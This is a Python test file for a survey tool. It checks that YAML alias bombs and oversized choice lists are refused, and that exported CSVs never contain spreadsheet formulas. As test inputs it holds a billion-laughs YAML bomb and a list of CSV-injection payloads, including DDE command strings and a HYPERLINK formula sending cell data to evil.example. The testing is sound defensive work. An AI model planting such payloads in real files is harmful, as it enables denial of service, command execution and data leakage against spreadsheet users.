"""Hostile files: YAML bombs and oversized choice lists are refused with located errors before memory grows;
no cell of an exported CSV (dataset or codebook) is read as a formula, whatever the separator."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import shutil
import subprocess
import textwrap
import tracemalloc
import zipfile
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from survey.anonymise import AnonymisedTable, added_column
from survey.cli import app
from survey.codecs.base import ValueLabel, Variable
from survey.errors import QuestionnaireInvalid
from survey.export import codebook_csv, dataset_csv
from survey.export.archive import About, write_archive
from survey.export.formulas import needs_neutralising, neutralise, neutralised_expr, neutralised_where
from survey.schema import load_questionnaire, parse_questionnaire
from survey.schema.choice_lists import MAX_CHOICE_FILE_BYTES, MAX_FILE_CHOICES
from survey.schema.yaml_limits import MAX_ALIAS_NODES, MAX_ALIASES, MAX_FILE_BYTES
from tests.conftest import ROOT, require_in_ci

# The file, byte for byte: 342 bytes that PyYAML unfolds into 9^9 (387 million) strings.
BILLION_LAUGHS = textwrap.dedent("""\
    a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
    b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
    c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
    d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
    e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
    f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
    g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
    h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
    i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
    """)

QUESTIONNAIRE = textwrap.dedent("""\
    id: essai
    version: "1"
    title: Essai
    privacy_notice: Aucune donnée personnelle.
    pages:
      - id: p
        questions:
    """)


def _problems(text: str, **kwargs: object) -> list:
    """The problems `parse_questionnaire` reports for `text` (none if it loads)."""
    try:
        parse_questionnaire(text, "essai.yaml", **kwargs)  # type: ignore[arg-type]
    except QuestionnaireInvalid as exc:
        return exc.problems
    return []


# --- YAML: aliases, values, size ------------------------------------------------------------------------------

def test_billion_laughs_is_refused_at_its_last_alias_without_unfolding(tmp_path: Path) -> None:
    assert len(BILLION_LAUGHS.encode()) == 342
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(BILLION_LAUGHS)
    tracemalloc.start()
    try:
        with pytest.raises(QuestionnaireInvalid) as caught:
            load_questionnaire(bomb)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    [problem] = caught.value.problems
    assert (problem.file, problem.line, problem.code) == (str(bomb), 9, "FILE_LIMIT")
    assert "aliases" in problem.message and f"{MAX_ALIAS_NODES:,}" in problem.message
    assert "write the repeated part out" in problem.fix
    assert peak < 20_000_000, f"reading a 342-byte file took {peak:,} bytes"


def test_survey_validate_reports_the_bomb_in_one_line_and_exits_1(tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(BILLION_LAUGHS)
    result = CliRunner().invoke(app, ["validate", str(bomb)])
    assert result.exit_code == 1
    assert "Traceback" not in result.output and "MemoryError" not in result.output
    assert f"{bomb}:9: over a limit for questionnaire files: aliases (`*name`) unfold" in result.output


def _nested_aliases(width: int, depth: int) -> tuple[str, int]:
    """A document of `depth` levels, each a list of `width` aliases to the level below, and the number of values
    its aliases add once unfolded (worked out level by level, without PyYAML)."""
    lines = [f"l0: &l0 [{', '.join(['x'] * width)}]"]
    lines += [f"l{k}: &l{k} [{', '.join([f'*l{k - 1}'] * width)}]" for k in range(1, depth + 1)]
    unfolded = [1 + width]  # a list node and its scalars
    for _ in range(depth):
        unfolded.append(1 + width * unfolded[-1])
    written = 1 + (depth + 1) + (1 + width) + depth  # root, keys, level 0, one list node per higher level
    total = 1 + sum(1 + size for size in unfolded)
    return "\n".join(lines) + "\n", total - written


@settings(max_examples=40, deadline=None)
@given(width=st.integers(1, 12), depth=st.integers(0, 8))
def test_aliases_are_refused_exactly_when_they_unfold_past_the_limit(width: int, depth: int) -> None:
    text, added = _nested_aliases(width, depth)
    problems = _problems(text)
    uses = width * depth
    if uses > MAX_ALIASES or added > MAX_ALIAS_NODES:
        assert [p.code for p in problems] == ["FILE_LIMIT"]
    else:  # within the limits the file is read, and refused only for not being a questionnaire
        assert "FILE_LIMIT" not in {p.code for p in problems}


def test_an_anchor_that_contains_itself_is_refused_on_its_line() -> None:
    [problem] = _problems("id: x\nloop: &a\n  - *a\n")
    assert (problem.line, problem.code) == (2, "FILE_LIMIT")
    assert "alias to itself" in problem.message


def test_more_aliases_than_the_limit_are_refused_at_the_first_one_over() -> None:
    uses = "\n".join(f"k{i}: *s" for i in range(MAX_ALIASES + 1))
    [problem] = _problems(f"s: &s x\n{uses}\n")
    assert problem.line == MAX_ALIASES + 2  # the anchor's line, then one line per alias
    assert f"more than {MAX_ALIASES} aliases" in problem.message


def test_the_examples_small_aliases_still_load() -> None:
    text = (ROOT / "questionnaires" / "formation-democratie-participative.yaml").read_text()
    assert text.count("*utilite") == 3
    questionnaire = load_questionnaire(ROOT / "questionnaires" / "formation-democratie-participative.yaml")
    scales = [q.scale for page in questionnaire.pages for q in page.questions if q.name.startswith("utilite_")]
    assert len(scales) == 4 and all(scale == scales[0] for scale in scales)


def test_too_many_values_are_refused_while_reading() -> None:
    text = "x: [" + ", ".join(["a"] * 1_001) + "]\n"
    [problem] = _problems(text, max_nodes=1_000)
    assert (problem.line, problem.code) == (1, "FILE_LIMIT")
    assert "more than 1,000 values" in problem.message and "choices_from" in problem.fix
    assert "FILE_LIMIT" not in {p.code for p in _problems(text, max_nodes=1_004)}  # root, key, list, 1,001 items


def test_a_file_over_the_size_limit_is_refused_unread(tmp_path: Path) -> None:
    big = tmp_path / "gros.yaml"
    big.write_bytes(b"# " + b"x" * MAX_FILE_BYTES + b"\n")
    with pytest.raises(QuestionnaireInvalid) as caught:
        load_questionnaire(big)
    [problem] = caught.value.problems
    assert (problem.file, problem.line, problem.code) == (str(big), 1, "FILE_LIMIT")
    assert f"larger than {MAX_FILE_BYTES:,} bytes" in problem.message


# --- choices_from: CSV files ----------------------------------------------------------------------------------

def _with_choice_files(tmp_path: Path, files: dict[str, str | bytes], sources: list[str]) -> list:
    """Problems of a questionnaire whose dropdowns read `sources`, written beside it with `files`."""
    for name, content in files.items():
        (tmp_path / name).write_bytes(content.encode() if isinstance(content, str) else content)
    questions = "".join(f"      - {{name: q{i}, type: dropdown, label: Q, choices_from: {source}}}\n"
                        for i, source in enumerate(sources))
    path = tmp_path / "essai.yaml"
    path.write_text(QUESTIONNAIRE + questions)
    try:
        load_questionnaire(path)
    except QuestionnaireInvalid as exc:
        return exc.problems
    return []


def test_a_choice_file_over_the_size_limit_is_refused(tmp_path: Path) -> None:
    rows = "code,label\n" + "a,A\n" * (MAX_CHOICE_FILE_BYTES // 4 + 1)
    problems = _with_choice_files(tmp_path, {"gros.csv": rows}, ["gros.csv"])
    assert [p.line for p in problems if p.code == "CHOICES_FILE"] == [8]
    assert any(f"`gros.csv` is larger than {MAX_CHOICE_FILE_BYTES:,} bytes" in p.message for p in problems)


def test_choices_read_from_files_are_capped_for_the_whole_questionnaire(tmp_path: Path) -> None:
    half = MAX_FILE_CHOICES // 2 + 1  # one file, two questions: the second crosses the limit
    rows = "code,label\n" + "".join(f"c{i},L{i}\n" for i in range(half))
    problems = [p for p in _with_choice_files(tmp_path, {"liste.csv": rows}, ["liste.csv", "liste.csv"])
                if p.code == "CHOICES_FILE"]
    [problem] = problems
    assert (problem.line, problem.question) == (9, "q1")
    # the first question took `half` choices; the second stops after the rest, on the next data line
    assert f"liste.csv:{MAX_FILE_CHOICES - half + 2}: more than {MAX_FILE_CHOICES:,} choices" in problem.message


@pytest.mark.parametrize(("content", "expected"), [
    ("code,label\na,A\nb,B,en trop\n", "liste.csv:3: 3 cells for 2 columns"),
    ("code,label\na,A\nb," + "B" * 200_000 + "\n", "liste.csv:3: not readable as CSV: field larger than"),
])
def test_a_malformed_choice_file_gives_a_located_problem_not_a_traceback(tmp_path: Path, content: str,
                                                                          expected: str) -> None:
    problems = _with_choice_files(tmp_path, {"liste.csv": content}, ["liste.csv"])
    assert any(expected in p.message and p.line == 8 for p in problems), problems


# --- exports: no formula cell, whatever the separator -----------------------------------------------------------

# The strings, and those of OWASP's "CSV injection" page, with the variants a filter forgets.
HOSTILE = (
    "x;=cmd|' /C calc'!A0;",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")",
    "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", " =1+1", "\u00a0=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)",
    "a,=1+1", "a;=1+1", "a\t=1+1", "a\n=1+1", "a\r\n=1+1", "a, =1+1", "a;\t@x", "a,\uff1d1",
    "\"=1+1", "a\";=1+1;\"", "\";=1+1", "'=1+1", "-8", "-2.5", "1;-2", "==", "=", "",
)
SEPARATORS = (",", ";", "\t")


def _cells_as_any_spreadsheet_splits(text: str) -> list[str]:
    """Every cell a spreadsheet could see in `text`: split on each separator, honouring quotes or not."""
    cells = []
    for separator in SEPARATORS:
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            reader = csv.reader(io.StringIO(text, newline=""), delimiter=separator, quoting=quoting)
            cells += [cell for row in reader for cell in row]
    return cells


def _starts_a_formula(cell: str) -> bool:
    """Whether some spreadsheet would read `cell` as a formula, trimmed of spaces and quotes as some do: written by
    hand from OWASP's list of triggers and the full-width forms; a plain number is a number."""
    trimmed = re.sub(r'^[\s"]+|[\s"]+$', "", cell)
    if re.fullmatch(r"-?[0-9]+([.,][0-9]+)?([eE][-+]?[0-9]+)?\s*", trimmed):  # `-2,5` in French
        return False
    return trimmed[:1] in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _hostile_table(texts: list[str], labels: list[str]) -> AnonymisedTable:
    """A table with a text, a choice, an integer (-8: don't know) and a decimal column, hostile texts in each."""
    n = len(texts)
    frame = pl.DataFrame({
        "export_id": [f"{i:016x}" for i in range(n)],
        "=version": ["=1;=2"] * n,
        "avis": texts,
        "choix": [labels[i % len(labels)] for i in range(n)],
        "nombre": [[-8, 3, None, -7][i % 4] for i in range(n)],
        "heures": [[2.5, -2.5, None, -7.0][i % 4] for i in range(n)],
    }, schema_overrides={"nombre": pl.Int64, "heures": pl.Float64})
    columns = tuple(added_column(name) for name in frame.columns)
    return AnonymisedTable(columns, frame)


@settings(max_examples=150, deadline=None)
@given(texts=st.lists(st.text(alphabet=st.sampled_from(",;\t\r\n \"'=+-@\uff1d\uff0b\uff0d\uff20\u00a0\u3000x1"),
                              max_size=12), min_size=1, max_size=8),
       labels=st.lists(st.sampled_from(HOSTILE) | st.text(max_size=8), min_size=1, max_size=3),
       french=st.booleans())
def test_no_exported_cell_starts_a_formula_under_any_separator(texts: list[str], labels: list[str],
                                                                french: bool) -> None:
    table = _hostile_table(texts, labels)
    data = dataset_csv(table, french=french).decode("utf-8-sig")
    for cell in _cells_as_any_spreadsheet_splits(data):
        assert not _starts_a_formula(cell), (cell, data)
    # Read with the separator it was written with, every text comes back whole, behind its `'`s.
    rows = list(csv.reader(io.StringIO(data, newline=""), delimiter=";" if french else ","))
    assert [row[2] for row in rows[1:]] == [neutralise(text) for text in texts]
    assert [row[2].replace("'", "") for row in rows[1:]] == [text.replace("'", "") for text in texts]


def test_the_python_and_polars_rules_agree() -> None:
    cells = [*HOSTILE, *(a + b + c for a in ("", "x", "1") for b in ",;\t\n \u3000" for c in "=+-@\uff1dy9")]
    texts = pl.Series("c", cells)
    by_polars = texts.to_frame().select(neutralised_expr(pl.col("c")))["c"].to_list()
    flagged = texts.to_frame().select(needs_neutralising(pl.col("c")))["c"]
    assert by_polars == neutralised_where(texts, flagged).to_list() == [neutralise(cell) for cell in cells]
    assert texts.to_list() == cells, "the written table is left as it was"


def test_number_columns_are_written_bare_and_text_columns_quoted() -> None:
    table = _hostile_table(["x;=cmd|' /C calc'!A0;", "ok", "-8", ""], ["a"])
    header, *rows = dataset_csv(table).decode("utf-8-sig").split("\r\n")[:-1]
    assert header == '"export_id","\'=version","avis","choix","nombre","heures"'
    assert rows[0].endswith('"x;\'=cmd|\' /C calc\'!A0;","a",-8,2.5')
    assert rows[2].endswith('"-8","a",,'), "a missing number is an empty cell; the text -8 stays a number"
    assert rows[3].endswith('"","a",-7,-7'), "an empty text is an empty quoted cell"


def test_codebook_cells_are_quoted_and_neutralised() -> None:
    book = codebook_csv(_hostile_table(["x"], ["a"]).columns, french=True).decode("utf-8-sig")
    assert book.startswith('"table";"column";"question"')
    assert '"\'=version"' in book
    for cell in _cells_as_any_spreadsheet_splits(book):
        assert not _starts_a_formula(cell), cell


def _hostile_export(labels: list[str], texts: list[str]) -> AnonymisedTable:
    """An anonymised table as the exports receive it, hostile in every text: question and choice labels (the
    codebook), free text, choice labels written in place of codes, a version label, a repeat group's table; and
    numbers: -8 (don't know) in an integer column, negative decimals."""
    choice = Variable("choix", "choix", "single_choice", "category", {"fr": labels[0]},
                      values=tuple(ValueLabel(f"c{i}", {"fr": label}) for i, label in enumerate(labels)),
                      specials=("dont_know",))
    columns = (added_column("export_id"), added_column("version"),
               Variable("avis", "avis", "long_text", "text", {"fr": labels[1]}, identifying=True), choice,
               Variable("nombre", "nombre", "integer", "integer", {"fr": labels[2]}, specials=("dont_know",)),
               Variable("heures", "heures", "decimal", "decimal", {"fr": labels[3]}),
               Variable("projets", "projets", "repeat", "integer", {"fr": labels[4]}))
    n = len(texts)
    frame = pl.DataFrame({
        "export_id": [f"{i:016x}" for i in range(n)], "version": ["=1;=2"] * n, "avis": texts,
        "choix": [labels[i % len(labels)] for i in range(n)], "nombre": [(-8, 3, None, -7)[i % 4] for i in range(n)],
        "heures": [(2.5, -2.5, None, -7.0)[i % 4] for i in range(n)], "projets": [1] * n,
    }, schema_overrides={"nombre": pl.Int64, "heures": pl.Float64, "projets": pl.Int64})
    inner = (added_column("export_id"), added_column("instance"),
             Variable("titre", "titre", "short_text", "text", {"fr": labels[5 % len(labels)]}, identifying=True))
    items = pl.DataFrame({"export_id": frame["export_id"], "instance": [1] * n, "titre": list(reversed(texts))},
                         schema_overrides={"instance": pl.Int64})
    return AnonymisedTable(columns, frame, {"projets": AnonymisedTable(inner, items)}, language="fr")


def _convert_with_libreoffice(files: list[Path], separator: str, out: Path, profile: Path) -> list[Path]:
    """Open each CSV file in LibreOffice Calc splitting on `separator` (UTF-8, `"` quotes; the French locale with
    `;`, where `2,5` is a number, the US one with `,`) with formulas evaluated, as a user opening it would; save each
    as .xlsx in `out`."""
    locale = 1036 if separator == ";" else 1033
    options = f"CSV:{ord(separator)},34,76,1,,{locale},false,false,false,false,false,-1,true"
    command = ["soffice", f"-env:UserInstallation={profile.as_uri()}", "--headless", f"--infilter={options}",
               "--convert-to", "xlsx", "--outdir", str(out), *map(str, files)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    converted = [out / f"{file.stem}.xlsx" for file in files]
    assert all(path.exists() for path in converted), list(out.iterdir())
    return converted


def _sheet_cells(path: Path) -> list[openpyxl.cell.Cell]:
    """Every non-empty cell of the first sheet of a workbook."""
    sheet = openpyxl.load_workbook(path).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_libreoffice_finds_no_formula_in_any_export_with_either_separator(tmp_path: Path) -> None:
    require_in_ci("LibreOffice (soffice, Debian's libreoffice-calc)", shutil.which("soffice") is not None)
    generated = [neutralise(text) for text in HOSTILE]  # sanity: the corpus does hold what the filter catches
    assert sum(text != cell for text, cell in zip(HOSTILE, generated, strict=True)) > 20
    table = _hostile_export(list(HOSTILE[:8]), [*HOSTILE, *(f"{a}{sep}{b}" for a in HOSTILE[:6] for sep in ",;"
                                                              for b in HOSTILE[6:12])])
    about = About("hostile", "=Titre", {"=1;=2": table.frame.height}, dt.datetime(2026, 6, 1), "fr", True)
    files = []
    for fmt in ("csv", "csv-fr", "xlsx"):
        with zipfile.ZipFile(write_archive(table, fmt, tmp_path / f"{fmt}.zip", about)) as archive:
            for name in archive.namelist():
                if not name.endswith(".txt"):
                    files.append(tmp_path / "files" / f"{fmt}-{name}")
                    files[-1].parent.mkdir(exist_ok=True)
                    files[-1].write_bytes(archive.read(name))
    csvs = [file for file in files if file.suffix == ".csv"]
    assert len(csvs) == 7, "a main table, a repeat group's table and a codebook in each CSV flavour; the xlsx codebook"
    # A control file, as an unguarded writer would have written it: LibreOffice does see formulas there.
    control = tmp_path / "files" / "control.csv"
    control.write_text("\ufeff\"x\",=1+1\r\n\"a;=2+2\",1\r\n", encoding="utf-8")
    for separator in (",", ";"):
        out = tmp_path / f"out-{ord(separator)}"
        *converted, checked = _convert_with_libreoffice([*csvs, control], separator, out, tmp_path / "profile")
        assert any(cell.data_type == "f" for cell in _sheet_cells(checked)), "the control file has a formula"
        for path in converted:
            cells = _sheet_cells(path)
            assert cells, path
            formulas = [cell.value for cell in cells if cell.data_type == "f"]
            assert formulas == [], (separator, path.name, formulas)
            assert not [cell.value for cell in cells if isinstance(cell.value, str) and _starts_a_formula(cell.value)]
        # Opened with its own separator, a file keeps its numbers: -8 and the decimals are numbers, not text.
        own = out / ("csv-hostile.xlsx" if separator == "," else "csv-fr-hostile.xlsx")
        header = [cell.value for cell in openpyxl.load_workbook(own).worksheets[0][1]]
        values = [row[header.index("nombre")] for row in openpyxl.load_workbook(own).worksheets[0].iter_rows(min_row=2)]
        assert {(cell.value, cell.data_type) for cell in values if cell.value is not None} == {(-8, "n"), (3, "n"),
                                                                                             (-7, "n")}
        hours = [row[header.index("heures")].value for row in openpyxl.load_workbook(own).worksheets[0].iter_rows(
            min_row=2)]
        assert {hour for hour in hours if hour is not None} == {2.5, -2.5, -7}
    for path in (file for file in files if file.suffix == ".xlsx"):
        assert [cell.value for cell in _sheet_cells(path) if cell.data_type == "f"] == []
